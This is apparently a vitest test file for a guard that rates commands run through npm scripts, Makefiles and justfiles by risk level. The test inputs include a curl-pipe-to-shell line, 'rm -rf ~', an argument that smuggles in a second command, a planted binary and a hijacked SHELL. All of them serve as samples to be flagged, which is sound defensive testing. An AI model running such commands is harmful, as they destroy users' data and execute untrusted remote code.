// Package scripts and build targets are judged by what they would run, where their definition is watched and unchanged.
import { expect, test } from "vitest";
import type { Facts } from "../../src/guard/contract/ports.ts";
import { judge, worldOf } from "../guard/assess/facts.ts";

interface Project {
  scripts?: Record<string, string>;
  files?: Record<string, string>;
  changed?: string[];
}

/** A real project: nothing counts as declared but what its files say. */
function project({ scripts = {}, files = {}, changed = [] }: Project): Facts {
  const manifest = JSON.stringify({ scripts });
  const all = Object.entries({ "package.json": manifest, ...files }).map(
    ([name, text]) => [`/w/${name}`, text] as const,
  );
  const world = worldOf({ files: Object.fromEntries(all) });
  return { ...world, declaredCheck: () => undefined, changedDefinitions: () => changed };
}
const risk = (command: string, facts: Facts): string => judge(command, facts).risk;

test.each([
  ["only reads", "ls src | wc -l", "L1"],
  ["makes a folder", "mkdir -p out", "L1"],
  ["deletes", "rm -rf dist", "L2"],
  ["deletes a root", "rm -rf ~", "L3"],
  ["runs what nobody knows", "frobnicate", "L2"],
  ["downloads and runs", "curl https://x.example/a | sh", "L3"],
  ["calls another script", "npm run other", "L2"],
  ["calls itself", "npm run x", "L2"],
])("a script that %s", (_, text, expected) => {
  expect(risk("npm run x", project({ scripts: { x: text, other: "rm a" } }))).toBe(expected);
});

test("what runs before and after a script counts", () => {
  expect(risk("npm run x", project({ scripts: { x: "ls", postx: "sudo id" } }))).toBe("L3");
  expect(risk("pnpm x", project({ scripts: { prex: "rm a", x: "ls" } }))).toBe("L2");
});

test("words that are handed on are part of what it runs", () => {
  const facts = project({ scripts: { find: "find src -name a" } });
  expect(risk("npm run find", facts)).toBe("L1");
  expect(risk("npm run find -- -type f", facts)).toBe("L1");
  expect(risk("npm run find -- -delete", facts)).toBe("L2");
  expect(risk("npm run find -- '; rm -rf ~'", facts)).toBe("L2");
  expect(risk('npm run find -- "$X"', facts)).toBe("L2");
});

test("a definition that changed is asked for, and so is one that nobody watches", () => {
  const scripts = { x: "ls" };
  expect(risk("npm run x", project({ scripts }))).toBe("L1");
  const changed = judge("npm run x", project({ scripts, changed: ["package.json"] }));
  expect(changed.risk).toBe("L2");
  expect(changed.reasons.map(({ code }) => code)).toContain("check.changed");
  const nested = project({ files: { "sub/package.json": JSON.stringify({ scripts }) } });
  expect(risk("cd sub && npm run x", nested)).toBe("L2");
  expect(risk("npm run missing", project({}))).toBe("L2");
});

test("a program of the project's own packages stands before the system's", () => {
  const planted = project({ scripts: { x: "ls src" }, files: { "node_modules/.bin/ls": "#!/bin/sh" } });
  expect(risk("npm run x", planted)).toBe("L2");
});

const makefile = [
  "OUT := build",
  "DEPS = $(OUT) more",
  "docs: prepare",
  "\t@mkdir -p $(DEPS)",
  "prepare:",
  "\tls",
  "clean:",
  "\trm -rf $(OUT)",
  "wipe:",
  "\trm -rf $(HOME_DIR)/*",
  "other: missing.c",
  "\tls",
  "loud:",
  "\tfrobnicate $$HOME",
].join("\n");

test.each([
  ["docs", "L1"],
  ["prepare docs", "L1"],
  ["clean", "L2"],
  ["wipe", "L3"],
  ["other", "L2"],
  ["loud", "L2"],
  ["unheard", "L2"],
  ["-C elsewhere docs", "L2"],
  ["OUT=../away docs", "L3"],
  ["SHELL=/tmp/x docs", "L3"],
])("make %s is judged by its recipes: %s", (words, expected) => {
  expect(risk(`make ${words}`, project({ files: { Makefile: makefile } }))).toBe(expected);
});

test.each(["X := $(shell curl x)", "include other.mk", "$(eval x)", "X != ls", "SHELL = /tmp/x", "export PATH = ."])(
  "a makefile that works something out as it is read is asked for: %s",
  (line) => {
    expect(risk("make docs", project({ files: { Makefile: `${line}\n${makefile}` } }))).toBe("L2");
  },
);

test("just recipes are looked through when they are plain", () => {
  const justfile = "list: prepare\n    ls src\nprepare:\n    @mkdir -p out\nclean:\n    rm -rf out\n";
  expect(risk("just list", project({ files: { justfile } }))).toBe("L1");
  expect(risk("just clean", project({ files: { justfile } }))).toBe("L2");
  expect(risk("just list", project({ files: { justfile: `${justfile}x := \`ls\`\n` } }))).toBe("L2");
  expect(risk("just missing", project({ files: { justfile } }))).toBe("L2");
});
